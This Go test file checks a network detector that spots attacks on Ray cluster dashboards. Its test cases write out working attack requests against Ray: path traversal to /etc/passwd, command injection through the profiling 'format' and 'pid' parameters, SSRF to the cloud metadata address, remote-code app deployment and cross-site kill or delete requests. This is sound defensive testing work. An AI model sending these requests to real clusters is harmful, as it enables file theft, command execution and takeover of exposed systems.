package rayapi

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/detectortest"
	"github.com/raytap/raytap/interpreters/ray"
)

const (
	outsider = "203.0.113.66"
	dev      = "10.20.0.20"
	cluster  = "10.20.0.10"
	curl     = "User-Agent: curl/7.88.1"
	chrome   = "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\nAccept-Language: en\nReferer: http://10.20.0.10:8265/\nHost: 10.20.0.10:8265"
	version  = `{"version": "4", "ray_version": "2.9.3", "ray_commit": "c", "session_name": "session_2026"}`
	envelope = `{"result": true, "msg": "", "data": {"clusterStatus": {}}}`
)

// req is one request and its answer.
type req struct {
	src, dst, line, header, body string
	status                       int
	got                          string
	server                       string
	at                           float64
}

func (r req) tx() *http.Transaction {
	if !strings.Contains(r.dst, ":") {
		r.dst += ":8265"
	}
	if r.server == "" {
		r.server = "Python/3.11 aiohttp/3.14.5"
	}
	method, target, _ := strings.Cut(r.line, " ")
	at := capture.At{Time: 1e18 + capture.Time(r.at*1e9), Packet: 10 + uint64(r.at)}
	t := &http.Transaction{At: at, Depth: 1,
		Flow: &capture.Flow{UID: "C1", Proto: capture.ProtoTCP, Orig: netip.AddrPortFrom(netip.MustParseAddr(r.src), 40000), Resp: netip.MustParseAddrPort(r.dst)},
		Request: &http.Request{At: at, Method: method, Target: target, Version: "1.1", Header: fields(r.header),
			Body: http.Body{Len: int64(len(r.body)), Data: []byte(r.body), Complete: true}},
	}
	if r.status != 0 {
		ctype := "text/plain; charset=utf-8"
		if strings.HasPrefix(r.got, "{") || strings.HasPrefix(r.got, "[") {
			ctype = "application/json; charset=utf-8"
		} else if strings.HasPrefix(r.got, "<") {
			ctype = "text/html"
		}
		t.Response = &http.Response{At: capture.At{Time: at.Time, Packet: at.Packet + 1}, Status: r.status, Version: "1.1",
			Header: fields("Content-Type: " + ctype + "\nServer: " + r.server),
			Body:   http.Body{Len: int64(len(r.got)), Data: []byte(r.got), Complete: true}}
	}
	return t
}

func fields(s string) (h http.Header) {
	for _, l := range strings.Split(s, "\n") {
		if n, v, ok := strings.Cut(l, ": "); ok {
			h = append(h, http.Field{Name: n, Value: v})
		}
	}
	return h
}

func watch(t *testing.T, reqs ...req) []*detectors.Finding {
	t.Helper()
	bus := detectortest.New(Spec(), nil)
	for _, r := range reqs {
		if c := ray.Interpret(r.tx()); c != nil {
			bus.Publish(c)
		}
	}
	return bus.Found
}

// last gives what was said by a rule at its most severe.
func last(list []*detectors.Finding, rule string) (best *detectors.Finding) {
	for _, f := range list {
		if f.Rule == rule && (best == nil || f.Severity >= best.Severity) {
			best = f
		}
	}
	return best
}

func rulesOf(list []*detectors.Finding) string {
	var s []string
	for _, f := range list {
		s = append(s, fmt.Sprintf("%s %s %s", f.Rule, f.Severity, f.Msg))
	}
	return strings.Join(s, "; ")
}

func TestExploits(t *testing.T) {
	const passwd = "root:x:0:0:root:/root:/bin/bash\n"
	cases := []struct {
		name, line string
		status     int
		got        string
		sev        detectors.Severity
		out        detectors.Outcome
	}{
		{"static file, open", "GET /static/js/../../../../../../etc/passwd", 200, passwd, detectors.Critical, detectors.Succeeded},
		{"static file, refused", "GET /static/js/../../../../../../etc/passwd", 403, "403: Forbidden", detectors.High, detectors.Attempted},
		{"static file, encoded", "GET /static/js/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 403, "403: Forbidden", detectors.High, detectors.Attempted},
		{"static file, encoded twice", "GET /static/js/..%252f..%252f..%252fetc/passwd", 404, "404: Not Found", detectors.High, detectors.Attempted},
		{"log file, open, with status byte", "GET /api/v0/logs/file?node_id=x&filename=../../../../../etc%2fpasswd&lines=50000", 200, "1" + passwd, detectors.Critical, detectors.Succeeded},
		{"log file, absolute", "GET /api/v0/logs/file?node_id=x&filename=/etc/passwd", 200, passwd, detectors.Critical, detectors.Succeeded},
		{"log file, refused with 200", "GET /api/v0/logs/file?node_id=x&filename=../../../../../etc/passwd", 200, "0Closing HTTP stream due to internal server error.\nAgent for node id: x doesn't exist.\n", detectors.High, detectors.Attempted},
		{"log file, refused", "GET /api/v0/logs/stream?node_id=x&filename=../../etc/passwd", 500, "Agent for node id: x doesn't exist.", detectors.High, detectors.Attempted},
		{"log glob, open", "GET /api/v0/logs?node_id=x&glob=../../../../etc/*", 200, `{"result": true, "msg": "", "data": {"result": {"internal": ["../../../../etc/passwd"]}}}`, detectors.Critical, detectors.Succeeded},
		{"log glob, patched", "GET /api/v0/logs?node_id=x&glob=../../../../etc/*", 500, "no", detectors.High, detectors.Attempted},
		{"profile, open", "GET /worker/cpu_profile?pid=1&ip=10.0.0.1&duration=5&native=0&format=%60id%60", 500, "py-spy record -f `id` failed", detectors.Critical, detectors.Succeeded},
		{"profile, patched", "GET /worker/cpu_profile?pid=1&format=%60id%60", 500, "Invalid format `id`, must be [flamegraph, raw, speedscope]", detectors.High, detectors.Attempted},
		{"profile, off", "GET /worker/cpu_profile?pid=1&format=%60id%60", 403, "Profiling is disabled by default for security reasons.", detectors.High, detectors.Attempted},
		{"profile of a task", "GET /task/cpu_profile?task_id=1&format=a;id", 403, "", detectors.High, detectors.Attempted},
		{"traceback", "GET /worker/traceback?pid=1%3Bid", 500, "ValueError ray/dashboard/", detectors.High, detectors.Attempted},
		{"proxy to the cloud", "GET /log_proxy?url=http://169.254.169.254/latest/meta-data/", 200, "ami-id\nhostname\n", detectors.Critical, detectors.Succeeded},
		{"proxy, gone", "GET /log_proxy?url=http://169.254.169.254/", 404, "404: Not Found", detectors.High, detectors.Attempted},
		{"proxy, not answered", "GET /log_proxy?url=http://x.oast.fun", 0, "", detectors.High, detectors.Unknown},
	}
	for _, c := range cases {
		f := last(watch(t, req{src: outsider, dst: cluster, line: c.line, header: curl, status: c.status, got: c.got}), "rayapi/exploit")
		if f == nil || f.Severity != c.sev || f.Outcome != c.out {
			t.Errorf("%s: %+v", c.name, f)
		}
		// From inside it is an exploit as well.
		if f = last(watch(t, req{src: dev, dst: cluster, line: c.line, header: curl, status: c.status, got: c.got}), "rayapi/exploit"); f == nil {
			t.Errorf("%s: silent from inside", c.name)
		}
	}
}

func TestOrdinaryUseOfTheSameRoutes(t *testing.T) {
	for _, line := range []string{
		"GET /worker/cpu_profile?pid=1&ip=10.20.0.11&duration=5&native=0&format=flamegraph",
		"GET /worker/traceback?pid=4711&ip=10.20.0.11&native=0",
		"GET /memory_profile?pid=1&ip=10.20.0.11&format=flamegraph&leaks=1",
		"GET /api/v0/logs?node_id=x&glob=worker*/*",
		"GET /api/v0/logs/file?node_id=x&filename=/tmp/ray/session_latest/logs/gpu.html",
		"GET /api/v0/logs/file?node_id=x&filename=raylet.out&lines=1000",
		"GET /log_proxy?url=http%3A%2F%2F10.20.0.11%3A52365%2Flogs%2Fraylet.out",
		"GET /logical/kill_actor?actorId=1&ipAddress=10.20.0.11&port=4444",
		"GET /log_proxy?url=http%3A%2F%2F10.20.0.11%3A52365%2Flogs",
		"GET /static/js/main.84605326.js", "GET /static/../index.html", "GET /static/js/../css/main.css",
		"POST /api/jobs/raysubmit_x/stop",
		"DELETE /api/serve/applications/",
		"PUT /api/serve/applications/",
		"PUT /api/packages/gcs/_ray_pkg_4b9ea2decce13836.zip",
		"GET /api/actors/kill?actor_id=0&force_kill=true",
		"GET /api/version", "GET /api/jobs/", "GET /nodes?view=summary", "GET /api/v0/tasks", "GET /api/cluster_status",
	} {
		for _, h := range []string{curl, chrome} {
			if f := watch(t, req{src: dev, dst: cluster, line: line, header: h, status: 200, got: envelope}); len(f) > 0 {
				t.Errorf("%s: %s", line, rulesOf(f))
			}
		}
	}
}

func TestReconGrowsWithItsBreadth(t *testing.T) {
	get := func(at float64, path string) req {
		return req{src: outsider, dst: cluster, line: "GET " + path, header: curl, status: 200, got: version, at: at}
	}
	steps := []req{get(0, "/api/version"), get(1, "/api/jobs/"), get(2, "/nodes?view=summary")}
	if f := last(watch(t, steps[0]), "rayapi/recon"); f == nil || f.Severity != detectors.Info {
		t.Errorf("%+v", f)
	}
	if f := last(watch(t, steps...), "rayapi/recon"); f == nil || f.Severity != detectors.Low || f.Outcome != detectors.Succeeded || !strings.Contains(f.Msg, "/nodes") {
		t.Errorf("%+v", f)
	}
	wide := append(steps, get(3, "/api/v0/actors"), get(4, "/api/cluster_status"), get(5, "/logical/actors"))
	if f := last(watch(t, wide...), "rayapi/recon"); f == nil || f.Severity != detectors.Medium {
		t.Errorf("%+v", f)
	}
	// A day later it is another walk.
	if f := last(watch(t, get(0, "/api/version"), get(86400, "/api/jobs/")), "rayapi/recon"); f.Severity != detectors.Info {
		t.Errorf("%+v", f)
	}
	// One request each to many servers.
	var sweep []req
	for i := range 4 {
		r := get(float64(i), "/api/version")
		r.dst = fmt.Sprintf("10.20.0.%d", i+1)
		sweep = append(sweep, r)
	}
	if f := last(watch(t, sweep...), "rayapi/recon"); f.Severity != detectors.Medium || !strings.Contains(f.Msg, "many") {
		t.Errorf("%+v", f)
	}
	// A home machine that does so outside spreads.
	for i := range sweep {
		sweep[i].src, sweep[i].dst = cluster, fmt.Sprintf("192.0.2.%d", i+1)
	}
	if f := last(watch(t, sweep...), "rayapi/recon"); f == nil || f.Severity != detectors.Medium || f.Src.String() != cluster {
		t.Errorf("%+v", f)
	}
}

func TestExposedOnceAnHour(t *testing.T) {
	get := func(at float64, header, path string, status int, got string) req {
		return req{src: outsider, dst: cluster, line: "GET " + path, header: header, status: status, got: got, at: at}
	}
	count := func(reqs ...req) (n int) {
		for _, f := range watch(t, reqs...) {
			if f.Rule == "rayapi/exposed" {
				n++
			}
		}
		return n
	}
	if n := count(get(0, curl, "/api/version", 200, version), get(10, curl, "/api/jobs/", 200, "[]"), get(3500, curl, "/api/version", 200, version)); n != 1 {
		t.Errorf("%d times within the hour", n)
	}
	if n := count(get(0, curl, "/api/version", 200, version), get(3700, curl, "/api/version", 200, version)); n != 2 {
		t.Errorf("%d times in two hours", n)
	}
	for name, r := range map[string]req{
		"refused":                  get(0, curl, "/api/version", 401, "Unauthorized: Missing authentication token"),
		"with a token":             get(0, curl+"\nAuthorization: Bearer x", "/api/version", 200, version),
		"a page that needs none":   get(0, curl, "/api/authentication_mode", 200, `{"authentication_mode": "token"}`),
		"from inside":              {src: dev, dst: cluster, line: "GET /api/version", header: curl, status: 200, got: version},
		"a Ray that is not ours":   {src: outsider, dst: "192.0.2.1", line: "GET /api/version", header: curl, status: 200, got: version},
		"Serve's own health check": {src: outsider, dst: cluster + ":8000", line: "GET /-/healthz", header: curl, status: 200, got: "success", server: "uvicorn"},
		"Serve's application":      {src: outsider, dst: cluster + ":8000", line: "POST /", header: curl, status: 200, got: "{}", server: "uvicorn"},
	} {
		if n := count(r); n != 0 {
			t.Errorf("%s: exposed", name)
		}
	}
	f := last(watch(t, get(0, curl, "/api/version", 200, version)), "rayapi/exposed")
	if f.Msg != "Ray 2.9.3 at 10.20.0.10:8265 answers 203.0.113.66, outside the home networks, and asks for no authentication" ||
		f.Sub != "this version is open to CVE-2023-48022, CVE-2024-57000, CVE-2025-1979, CVE-2025-62593, CVE-2026-27482" {
		t.Errorf("%s: %s", f.Msg, f.Sub)
	}
	f = last(watch(t, get(0, curl, "/api/jobs/", 200, "[]")), "rayapi/exposed")
	if f.Sub != "every version is open to CVE-2023-48022" {
		t.Errorf("of a version that was not seen: %s", f.Sub)
	}
}

func TestOutsidersWrites(t *testing.T) {
	const deploy = `{"applications":[{"name":"x","import_path":"app:app","runtime_env":{"working_dir":"http://198.51.100.77/app.zip"}}]}`
	cases := []struct {
		name, rule string
		req        req
		sev        detectors.Severity
	}{
		{"deploy", "rayapi/serve_deploy", req{line: "PUT /api/serve/applications/", body: deploy, status: 200}, detectors.Critical},
		{"deploy, rejected", "rayapi/serve_deploy", req{line: "PUT /api/serve/applications/", body: deploy, status: 400, got: "ValidationError(model='ServeDeploySchema'"}, detectors.High},
		{"deploy, no token", "rayapi/serve_deploy", req{line: "PUT /api/serve/applications/", body: deploy, status: 401, got: "Unauthorized: Missing authentication token"}, detectors.High},
		{"package", "rayapi/package", req{line: "PUT /api/packages/gcs/_ray_pkg_4b9ea2decce13836.zip", body: "PK\x03\x04", status: 200}, detectors.High},
		{"package, no token", "rayapi/package", req{line: "PUT /api/packages/gcs/_ray_pkg_4b9ea2decce13836.zip", body: "PK\x03\x04", status: 401}, detectors.Medium},
		{"stop", "rayapi/control", req{line: "POST /api/jobs/raysubmit_x/stop", status: 200, got: `{"stopped": true}`}, detectors.High},
		{"delete", "rayapi/control", req{line: "DELETE /api/jobs/raysubmit_x", status: 200, got: `{"deleted": true}`}, detectors.High},
		{"shutdown of Serve", "rayapi/control", req{line: "DELETE /api/serve/applications/", status: 200}, detectors.High},
		{"kill by GET", "rayapi/control", req{line: "GET /api/actors/kill?actor_id=0", status: 200, got: `{"result": true, "msg": "Force killed actor with id 0", "data": {}}`}, detectors.High},
		{"kill, failed", "rayapi/control", req{line: "GET /api/actors/kill?actor_id=0", status: 200, got: `{"result": false, "msg": "no", "data": {}}`}, detectors.Medium},
		{"runtime env agent", "rayapi/exploit", req{line: "POST /get_or_create_runtime_env", body: "\x0a\x02{}", status: 200}, detectors.Critical},
		{"a foreign page deletes", "rayapi/control", req{src: dev, line: "DELETE /api/serve/applications/", header: "User-Agent: Mozilla/5.0\nAccept-Language: en\nHost: 10.20.0.10:8265\nOrigin: http://evil.example", status: 200}, detectors.High},
		{"a foreign page kills", "rayapi/control", req{src: dev, line: "GET /api/actors/kill?actor_id=0", header: "User-Agent: Mozilla/5.0\nAccept-Language: en\nHost: 10.20.0.10:8265\nSec-Fetch-Site: cross-site", status: 404, got: "404: Not Found"}, detectors.Medium},
	}
	for _, c := range cases {
		if c.req.src == "" {
			c.req.src = outsider
		}
		if c.req.header == "" {
			c.req.header = curl
		}
		c.req.dst = cluster
		f := last(watch(t, c.req), c.rule)
		if f == nil || f.Severity != c.sev {
			t.Errorf("%s: %+v", c.name, f)
		}
	}
}

func TestScannersOfOtherServers(t *testing.T) {
	// Ray's holes tried on a web server are no reason for alarm.
	f := last(watch(t, req{src: outsider, dst: cluster + ":80", line: "GET /log_proxy?url=http://169.254.169.254/", header: curl, status: 404, got: "<html>", server: "nginx"}), "rayapi/exploit")
	if f == nil || f.Severity != detectors.Medium {
		t.Errorf("%+v", f)
	}
	for _, line := range []string{"GET /static/../../etc/passwd", "GET /metrics", "GET /api/jobs/", "DELETE /api/jobs/7", "GET /events", "GET /"} {
		if f := watch(t, req{src: outsider, dst: cluster + ":80", line: line, header: curl, status: 404, got: "<html>", server: "nginx"}); len(f) > 0 {
			t.Errorf("%s: %s", line, rulesOf(f))
		}
	}
}
